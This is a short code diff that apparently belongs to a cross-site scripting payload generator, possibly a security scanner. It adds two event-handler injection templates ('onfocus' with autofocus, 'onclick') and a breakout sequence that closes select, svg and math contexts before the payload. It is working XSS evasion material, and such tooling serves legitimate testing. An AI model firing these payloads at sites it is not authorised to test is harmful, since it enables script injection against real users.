@@ -14,6 +14,8 @@ const elements: readonly Part[] = [
   ['event', (call) => `<object onerror=${call}></object>`],
   ['event', (call) => `<math onpointerenter=${call}>m</math>`],
   ['event', (call) => `<x-y autofocus tabindex=1 onfocus=${call}>x</x-y>`],
+  ['event', (call) => `<b autofocus tabindex=1 onfocus=${call}>b</b>`],
+  ['event', (call) => `<a onclick=${call}>a</a>`],
   ['event', (call) => `<x-y onmouseover=${call}>x</x-y>`],
   ['event', (call) => `<x-y onanimationstart=${call}>x</x-y>`],
   ['event', (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
@@ -55,6 +57,8 @@ export function listEvasions(place: HtmlPlace): readonly XssPayload[] {
   const context = contextOf(place)
   const end = endOf(place)
   const outside: readonly XssPayload[] = [
+    // Browsers drop elements inside a list of options.
+    ...(end === '' ? [together(context, '</select></svg></math>', elements.slice(0, 1), 2)] : []),
     together(context, end, elements, 2),
     together(context, end, forms, 2 + elements.length),
     { context, write: (word) => `${end}<b on${word}=1>`, runs: 'nothing' },
